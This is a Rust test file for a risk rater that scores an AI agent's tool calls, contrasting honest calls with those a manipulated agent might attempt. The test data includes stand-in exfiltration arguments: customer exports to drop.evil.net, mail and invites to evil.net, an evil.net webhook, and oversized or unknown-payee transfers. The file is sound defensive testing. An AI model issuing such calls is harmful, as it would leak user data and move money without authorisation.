//! What the honest and the manipulated ask for, and how it is rated.

use super::*;
use crate::action::{ActionKind, Parameters, Source};
use crate::config::compile;
use crate::config::problem::Problems;
use crate::json::{Document, Limits, Tape};

fn table() -> RiskTable {
    let written = serde_json::from_str(
        r#"{"trusted_domains": ["example.com"], "known_payees": ["GB29NWBK60161331926819"],
            "limits": {"rows": 100, "recipients": 5, "amount": {"max": 500, "currency": "USD"}}}"#,
    );
    let mut problems = Problems::default();
    let table = compile::risk::risk(&written.unwrap(), &mut problems);
    assert!(problems.is_empty(), "{problems}");
    table
}

fn rate(kind: ActionKind, arguments: &str) -> (Level, Vec<&'static str>) {
    let document = Document::read(arguments.as_bytes(), &Limits::default(), Tape::default()).unwrap();
    let action = Action {
        kind,
        source: Source::Name,
        tool: "tool".into(),
        server: "server",
        method: "tools/call".into(),
        resource: None,
        parameters: Parameters { body: Some(document.root()), ..Parameters::default() },
    };
    let risk = assess(&table(), &action);
    (risk.level, risk.findings.iter().map(|finding| finding.code.name()).collect())
}

#[test]
fn honest_calls_stay_below_high() {
    for (kind, arguments) in [
        (ActionKind::Read, r#"{"account_id": "001", "limit": 1}"#),
        (ActionKind::List, r#"{"query": "open tickets of bob@outside.net", "page_size": 100}"#),
        (ActionKind::List, "{}"),
        (ActionKind::Read, r#"{"url": "https://docs.rs/serde"}"#),
        (ActionKind::Send, r#"{"to": "ann@example.com", "subject": "Hi", "body": "see https://intra.example.com/x"}"#),
        (ActionKind::Send, r#"{"to": ["a@example.com", "Bob <b@mail.example.com>"], "body": "write me"}"#),
        (ActionKind::Create, r#"{"title": "A bug", "body": "see https://github.com/x/y/issues/1", "count": 5000}"#),
        (ActionKind::Update, r##"{"path": "src/x.md", "content": "# see http://a.net and http://b.net"}"##),
        (ActionKind::Transfer, r#"{"payee": "gb29 nwbk 6016 1331 9268 19", "amount": 20, "currency": "usd"}"#),
        (ActionKind::Create, r#"{"customer": "c-1", "amount": "499.99", "memo": "draft"}"#),
    ] {
        let (level, findings) = rate(kind, arguments);
        assert!(level < Level::High, "{kind:?} {arguments}: {level} {findings:?}");
    }
}

#[test]
fn one_record_is_low() {
    assert_eq!(rate(ActionKind::Read, r#"{"account_id": "001", "limit": 1}"#), (Level::Low, vec![]));
}

#[test]
fn what_a_manipulated_agent_tries_is_high_or_worse() {
    use ActionKind::{Create, Delete, Export, Invite, List, Read, Send, Transfer, Update};
    use Level::{Critical, High};
    for (kind, arguments, level, code) in [
        (Read, r#"{"limit": 50000}"#, High, "rows.over_limit"),
        (Read, r#"{"limit": "50,000"}"#, High, "rows.over_limit"),
        (Read, r#"{"limit": 1e300}"#, High, "rows.over_limit"),
        (List, r#"{"options": {"pageSize": -1}}"#, Level::Medium, "rows.unbounded"),
        (Read, r#"{"limit": "ALL"}"#, High, "rows.unbounded"),
        (Export, r#"{"object": "Customer", "url": "https://drop.evil.net/in"}"#, Critical, "destination.untrusted"),
        (Export, r#"{"object": "Customer"}"#, High, "rows.absent"),
        (Send, r#"{"to": "x@evil.net", "body": "all of it"}"#, High, "recipient.untrusted"),
        (Send, r#"{"to": "x@example.com.evil.net"}"#, High, "recipient.untrusted"),
        (Send, r#"{"to": "ann@example.com, x@evil.net"}"#, High, "recipient.untrusted"),
        (Send, r#"{"channel": "x", "body": "look: https://evil.net/p"}"#, High, "destination.link"),
        (
            Send,
            r#"{"cc": ["1@example.com","2@example.com","3@example.com","4@example.com","5@example.com","6@example.com"]}"#,
            High,
            "recipients.over_limit",
        ),
        (Create, r#"{"title": "x", "participants": ["x@evil.net"]}"#, High, "recipient.untrusted"),
        (Invite, r#"{"user_email": "x@evil.net"}"#, High, "recipient.untrusted"),
        (Update, r#"{"webhook": "http://evil.net/"}"#, High, "destination.untrusted"),
        (Transfer, r#"{"payee": "GB29NWBK60161331926819", "amount": 9000}"#, Critical, "money.over_limit"),
        (Transfer, r#"{"payee": "DE89370400440532013000", "amount": 20}"#, High, "payee.unknown"),
        (Transfer, r#"{"to": "GB29NWBK60161331926819", "amount": "9.000,00 USD"}"#, Critical, "money.over_limit"),
        (Transfer, r#"{"amount": -20}"#, High, "money.negative"),
        (Transfer, r#"{"amount": 400, "currency": "BTC"}"#, High, "money.currency"),
        (Transfer, r#"{"amount": "much"}"#, High, "money.unreadable"),
        (Create, r#"{"amount": 9000}"#, High, "money.over_limit"),
        (Delete, r#"{"id": 1}"#, High, ""),
    ] {
        let (found, codes) = rate(kind, arguments);
        assert_eq!(found, level, "{kind:?} {arguments}: {codes:?}");
        assert!(code.is_empty() || codes.contains(&code), "{arguments}: {codes:?}");
    }
}

#[test]
fn a_finding_never_shows_the_value() {
    let arguments = br#"{"to": "secret-name@evil.net", "amount": "-98765 XYZ", "url": "https://secret.evil.net"}"#;
    let document = Document::read(arguments, &Limits::default(), Tape::default()).unwrap();
    let action = Action {
        kind: ActionKind::Transfer,
        source: Source::Name,
        tool: "tool".into(),
        server: "server",
        method: "tools/call".into(),
        resource: None,
        parameters: Parameters { body: Some(document.root()), ..Parameters::default() },
    };
    let risk = assess(&table(), &action);
    assert!(risk.findings.len() >= 4, "{risk:?}");
    for finding in &risk.findings {
        assert!(!["secret", "evil", "98765", "XYZ"].iter().any(|it| finding.detail.contains(it)), "{finding:?}");
    }
}
